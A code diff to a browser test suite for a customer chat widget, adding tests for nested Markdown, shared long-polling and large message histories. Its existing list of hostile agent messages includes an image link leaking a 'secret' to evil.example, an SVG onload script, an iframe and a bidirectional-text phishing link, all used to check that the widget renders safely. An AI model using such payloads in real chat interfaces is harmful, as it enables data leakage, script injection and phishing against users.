@@ -88,6 +88,7 @@ describe('in Chromium against the emulator over HTTP', () => {
       '![tracker](https://evil.example/leak?q=secret) <iframe src="https://evil.example"></iframe>',
       '<svg onload="window.__pwned = 4"></svg> <style>body { display: none }</style>',
       `${'> '.repeat(3000)}deep ${'['.repeat(5000)}`,
+      `${'- *nested* [link](https://evil.example/n)\n  '.repeat(2500)}`, // ~100 KB of nested Markdown
       'spoofed \u202Egnp.exe [https://bank.example](https://evil.example/phish)',
     ];
     for (const text of hostile) emu.agentSay(session.id, text);
@@ -116,6 +117,32 @@ describe('in Chromium against the emulator over HTTP', () => {
     await expect.poll(inFlightPolls, { timeout: 15_000 }).toBe(1);
     emu.agentSay(session.id, 'still here after the handover');
     for (const tab of tabs.slice(1)) await tab.getByText('still here after the handover').waitFor({ timeout: 15_000 });
+  });
+
+  it('keeps one long-poll for several widgets on one page showing the same session', async () => {
+    const session = emu.createSession();
+    const { page } = await open({ session: session.id, count: '3' });
+    await expect.poll(inFlightPolls, { timeout: 10_000 }).toBe(1);
+    emu.agentSay(session.id, 'seen by all three');
+    await expect.poll(() => page.getByText('seen by all three').count()).toBe(3);
+  });
+
+  it('stays usable with a 10,000-event history and a 1 MB agent message', async () => {
+    const session = emu.createSession();
+    for (let i = 1; i <= 5000; i += 1) {
+      emu.appendEvent(session.id, { kind: 'message', source: i % 2 ? 'customer' : 'ai_agent', message: `history message ${i}` });
+      emu.appendEvent(session.id, { kind: 'status', source: 'ai_agent', status: 'ready' });
+    }
+    const { page, problems } = await open({ session: session.id });
+    await page.getByText('history message 5000').waitFor({ timeout: 20_000 });
+    // Only a window of the history is in the DOM.
+    expect(await page.evaluate(() => document.getElementsByTagName('*').length)).toBeLessThan(2000);
+    emu.agentSay(session.id, `${'A very long answer. '.repeat(52_429)}THE END`);
+    await page.getByText(/THE END$/).waitFor({ timeout: 20_000 });
+    await page.getByRole('textbox', { name: 'Message' }).fill('still here');
+    await page.keyboard.press('Enter');
+    await log(page).locator('li[data-role="customer"]').getByText('still here').waitFor();
+    expect(problems).toEqual([]);
   });
 
   it('waits for the network while offline and delivers what it missed when back online', async () => {
